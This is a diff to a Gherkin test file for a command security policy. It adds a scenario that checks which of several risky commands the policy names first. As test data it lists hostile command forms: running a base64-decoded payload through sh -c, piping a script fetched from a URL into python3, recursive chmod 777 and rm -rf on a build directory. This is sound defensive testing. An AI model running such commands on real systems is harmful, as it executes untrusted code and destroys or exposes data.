@@ -260,6 +260,9 @@ Feature: Security policy - dangerous forms and everyday commands
       | sh -c "$(base64 --decode < payload.b64)" |
       | curl -s https://example.com/x.py \| python3 |
 
+  Scenario: Of several commands that ask, the first one is named
+    Then the policy should ask about "chmod -R 777 \"$TARGET\"" in: chmod -R 777 "$TARGET"; rm -rf "$BUILD_DIR"/*
+
   Scenario: What a target known only at run time gets is configurable
     Then a policy with runtime targets "allow" should allow: rm -rf "$BUILD_DIR"/*
     And a policy with runtime targets "deny" should deny: rm -rf "$BUILD_DIR"/*
